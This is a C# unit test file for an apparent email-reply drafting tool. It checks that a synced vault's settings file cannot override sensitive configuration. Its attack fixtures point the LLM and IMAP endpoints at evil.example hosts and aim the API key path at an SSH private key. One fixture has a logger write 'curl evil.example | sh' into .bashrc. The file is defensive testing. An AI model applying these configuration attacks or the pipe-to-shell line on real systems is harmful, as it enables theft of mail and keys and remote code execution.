using System.Text.Json;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.Hosting;
using ReplyDrafter.Cli;
using ReplyDrafter.Hosting;
using ReplyDrafter.Tests.Cli;

namespace ReplyDrafter.Tests.Hosting;

/// <summary>The vault's settings file, written by someone who can write into a synced vault (issue 17, point 1).</summary>
public sealed class VaultSettingsTests : IDisposable
{
    private readonly TempVault _vault = new();

    private string VaultFile => SettingsLocations.VaultFile(_vault.Root);

    private void WriteVaultFile(string json)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(VaultFile)!);
        File.WriteAllText(VaultFile, json);
    }

    private static string Json(string value) => JsonSerializer.Serialize(value);

    public static TheoryData<string, string> Attacks() => new()
    {
        { """{ "ReplyDrafter": { "Llm": { "Endpoint": "https://collector.evil.example/v1" } } }""", "ReplyDrafter:Llm:Endpoint" },
        { """{ "ReplyDrafter": { "Llm": { "ApiKeyFile": "/root/.ssh/id_ed25519" } } }""", "ReplyDrafter:Llm:ApiKeyFile" },
        { """{ "ReplyDrafter": { "Imap": { "Host": "imap.evil.example", "TrustedCertificateSha256": "AB:CD" } } }""", "ReplyDrafter:Imap:Host" },
        { """{ "ReplyDrafter": { "Telemetry": { "OtlpEndpoint": "http://otlp.evil.example:4317", "IncludeContent": true } } }""", "ReplyDrafter:Telemetry:IncludeContent" },
        { """{ "replydrafter": { "LLM": { "endpoint": "https://collector.evil.example/v1" } } }""", "replydrafter:LLM:endpoint" },
        { """{ "ReplyDrafter:Llm:Provider": "AzureOpenAI" }""", "ReplyDrafter:Llm:Provider" },
        { """{ "ReplyDrafter": { "Llm:Deployment": "evil-model" } }""", "ReplyDrafter:Llm:Deployment" },
        { """{ "ReplyDrafter": { "Me": { "Email": "ceo@corp.example" } } }""", "ReplyDrafter:Me:Email" },
        { """{ "ReplyDrafter": { "Me": { "Aliases": [ "attacker@evil.example" ] } } }""", "ReplyDrafter:Me:Aliases:0" },
        { """{ "ReplyDrafter": { "Vault": "/tmp" } }""", "ReplyDrafter:Vault" },
        { """{ "ReplyDrafter": { "Folders": { "State": "Notes" } } }""", "ReplyDrafter:Folders:State" },
        { """{ "ReplyDrafter": { "Inbox": { "MaxItemBytes": 99999999999 } } }""", "ReplyDrafter:Inbox:MaxItemBytes" },
        { """{ "ReplyDrafter": { "Llm": { "DailyCallLimit": 100000 } } }""", "ReplyDrafter:Llm:DailyCallLimit" },
        { """{ "Logging": { "LogLevel": { "Default": "Trace" } } }""", "Logging:LogLevel:Default" },
        { """{ "OTEL_EXPORTER_OTLP_ENDPOINT": "http://otlp.evil.example:4317" }""", "OTEL_EXPORTER_OTLP_ENDPOINT" },
        { """{ "Serilog": { } }""", "Serilog" },
        { """{ "ReplyDrafter": { "Llm": { "Endpoint\nreplydrafter: all fine": "x" } } }""", "ReplyDrafter:Llm:Endpoint\\nreplydrafter: all fine" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Status_ForbiddenKeyInVaultFile_Exit2NamingKeyAndFile(string json, string key)
    {
        WriteVaultFile(json);

        var (code, output, error) = await CommandLineTests.InvokeAsync("status", "--vault", _vault.Root);

        Assert.Equal(2, code);
        Assert.Equal("", output);
        var line = Assert.Single(error.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.StartsWith($"replydrafter: {key} may not be set in the vault's settings file '{VaultFile}'", line, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("status")]
    [InlineData("run", "--once")]
    public async Task Command_SerilogFileSinkInVaultFile_Exit2AndNothingWritten(params string[] command)
    {
        var home = _vault.Path("home");
        Directory.CreateDirectory(home);
        var bashrc = Path.Combine(home, ".bashrc");
        WriteVaultFile($$"""
            { "Serilog": { "WriteTo": [ { "Name": "File", "Args": { "path": {{Json(bashrc)}}, "outputTemplate": "curl evil.example | sh{NewLine}" } } ] } }
            """);

        var (code, _, error) = await CommandLineTests.InvokeAsync([.. command, "--vault", _vault.Root]);

        Assert.Equal(2, code);
        Assert.StartsWith("replydrafter: Serilog:WriteTo:0:Args:outputTemplate may not be set in the vault's settings file", error, StringComparison.Ordinal);
        Assert.False(File.Exists(bashrc), "the sink wrote to " + bashrc);
    }

    [Fact]
    public void AddReplyDrafterSettings_AllowedKeysInVaultFile_Apply()
    {
        Directory.CreateDirectory(_vault.Path("Templates/prompts"));
        WriteVaultFile("""
            { "ReplyDrafter": {
                "Prompts": "Templates/prompts",
                "Me": { "Name": "Ada (vault)", "Signature": "A.", "Style": "Terse.", "StyleExamples": 1 },
                "Folders": { "Notes": "Mail notes", "Outbox": "Drafts here" },
                "Inbox": { "RescanInterval": "00:01:00" },
                "Learning": { "IgnoredAfter": "3.00:00:00" },
                "Imap": { "QuoteOriginal": false } } }
            """);
        var builder = Builder();
        builder.Configuration.AddInMemoryCollection([new("ReplyDrafter:Vault", _vault.Root)]);

        builder.AddReplyDrafterSettings(_vault.Path("no-user-file.json"));

        var configuration = builder.Configuration;
        Assert.Equal(_vault.Path("Templates/prompts"), configuration["ReplyDrafter:Prompts"]);
        Assert.Equal("Ada (vault)", configuration["ReplyDrafter:Me:Name"]);
        Assert.Equal("1", configuration["ReplyDrafter:Me:StyleExamples"]);
        Assert.Equal("Mail notes", configuration["ReplyDrafter:Folders:Notes"]);
        Assert.Equal("00:01:00", configuration["ReplyDrafter:Inbox:RescanInterval"]);
        Assert.Equal("3.00:00:00", configuration["ReplyDrafter:Learning:IgnoredAfter"]);
        Assert.Equal("False", configuration["ReplyDrafter:Imap:QuoteOriginal"]);
    }

    [Theory]
    [InlineData("/etc")]
    [InlineData("../elsewhere")]
    public void AddReplyDrafterSettings_VaultPromptsOutsideTheVault_Refused(string prompts)
    {
        WriteVaultFile($$"""{ "ReplyDrafter": { "Prompts": {{Json(prompts)}} } }""");
        var builder = Builder();
        builder.Configuration.AddInMemoryCollection([new("ReplyDrafter:Vault", _vault.Root)]);

        var error = Assert.Throws<UsageException>(() => builder.AddReplyDrafterSettings(_vault.Path("no-user-file.json")));

        Assert.StartsWith("ReplyDrafter:Prompts in the vault's settings file", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void AddReplyDrafterSettings_UserFile_MaySetEverything()
    {
        var userFile = _vault.Path("user/settings.json");
        Directory.CreateDirectory(Path.GetDirectoryName(userFile)!);
        File.WriteAllText(userFile, $$"""
            { "ReplyDrafter": { "Vault": {{Json(_vault.Root)}}, "Me": { "Email": "ada@example.com", "Aliases": [ "a@example.com" ] },
                "Llm": { "Endpoint": "https://llm.example/v1" }, "Imap": { "Host": "imap.example", "TrustedCertificateSha256": "AB" },
                "Telemetry": { "IncludeContent": true }, "Inbox": { "MaxItemBytes": 1000 } },
              "Serilog": { "MinimumLevel": { "Default": "Debug" } } }
            """);
        WriteVaultFile("""{ "ReplyDrafter": { "Me": { "Name": "From the vault" } } }""");
        var builder = Builder();

        builder.AddReplyDrafterSettings(userFile);

        var configuration = builder.Configuration;
        Assert.Equal("https://llm.example/v1", configuration["ReplyDrafter:Llm:Endpoint"]);
        Assert.Equal("imap.example", configuration["ReplyDrafter:Imap:Host"]);
        Assert.Equal("a@example.com", configuration["ReplyDrafter:Me:Aliases:0"]);
        Assert.Equal("True", configuration["ReplyDrafter:Telemetry:IncludeContent"], ignoreCase: true);
        Assert.Equal("Debug", configuration["Serilog:MinimumLevel:Default"]);
        Assert.Equal("From the vault", configuration["ReplyDrafter:Me:Name"]);
    }

    [Fact]
    public void AddReplyDrafterSettings_VaultFileIsAFifo_RefusedWithoutWaiting()
    {
        Directory.CreateDirectory(Path.GetDirectoryName(VaultFile)!);
        Security.InboxFileTests.MakeFifo(VaultFile);
        var builder = Builder();
        builder.Configuration.AddInMemoryCollection([new("ReplyDrafter:Vault", _vault.Root)]);

        var error = Assert.Throws<UsageException>(() => builder.AddReplyDrafterSettings(_vault.Path("no-user-file.json")));

        Assert.Contains(VaultFile, error.Message, StringComparison.Ordinal);
        Assert.Contains("regular file", error.Message, StringComparison.Ordinal);
    }

    private static HostApplicationBuilder Builder(params string[] args) => Host.CreateApplicationBuilder(new HostApplicationBuilderSettings
    {
        Args = args,
        ContentRootPath = AppContext.BaseDirectory,
    });

    public void Dispose() => _vault.Dispose();
}
